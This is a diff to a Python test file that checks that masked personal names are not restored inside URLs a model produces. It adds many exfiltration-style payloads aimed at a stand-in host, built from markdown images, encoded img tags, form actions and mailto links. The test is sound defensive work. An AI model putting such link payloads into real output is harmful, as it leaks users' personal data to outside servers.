@@ -36,16 +36,26 @@ def heard(text: str, *cuts: int) -> str:
         f'<img src="https:elsewhere.example/?d=、{NAME}">',
         f"[x]: https:elsewhere.example/{NAME}",
         f"https://elsewhere.example/?{'a' * 9_000}={NAME}",
+        f"![](https://elsewhere.example/?d='{NAME})",
+        f'![](https://elsewhere.example/?d=">{NAME})',
+        f"![](https://elsewhere.example/(a)/{NAME})",
+        f'<img alt="a>b" src="https:elsewhere.example/?d=\'{NAME}">',
+        f'<img src="https://elsewhere.example/\n{NAME}">',
+        f"<img/src=https:&#47;&#47;elsewhere.example&#47;{NAME}>",
+        f"<button formaction='https:elsewhere.example/{NAME}'>",
+        f"[r]:\nhttps:elsewhere.example/{NAME}",
+        f"[https://a.example/](https:elsewhere.example/{NAME})",
+        f"[mail](mailto:a@b.example?body={NAME})",
         f"wss://elsewhere.example/?a=1&b={NAME}&c=[JP_ADDRESS_2_ab3d]",
         "https://elsewhere.example/?d=［ＰＥＲＳＯＮ＿１＿ｋ７ｑ２］",
         f"https://www.city.example.jp.elsewhere.example/?q={NAME}",
     ],
 )
 def test_a_placeholder_in_an_address_of_the_models_own_is_never_put_back(made_up: str) -> None:
-    text = f"参照 {made_up} です。\n{NAME}様"
+    text = f"参照 {made_up} です。\n\n{NAME}様"
     for cut in range(0, len(text) + 1, 1 + len(text) // 200):
-        before, _, after = heard(text, cut).partition("です。")
-        assert after == f"\n{NAME}様"
+        before, _, after = heard(text, cut).rpartition("です。")
+        assert after == f"\n\n{NAME}様"
         assert "_k7q2" not in before and "ｋ７ｑ２" not in before and "[PERSON]" in before
 
 
@@ -65,6 +75,11 @@ def test_a_placeholder_in_an_address_of_the_models_own_is_never_put_back(made_up
         f'data = "氏名: {NAME}"',
         f"url = '{NAME}'",
         f"| 氏名 | {NAME} |",
+        f"(https://elsewhere.example/)の{NAME}様",
+        f"[INFO]: {NAME} が来庁",
+        f"a <b と c> d、{NAME}",
+        f"<p>{NAME}</p><br>{NAME}",
+        f'<a href="https://elsewhere.example/">{NAME}</a>',
     ],
 )
 def test_everything_else_stays_as_it_is(fine: str) -> None:
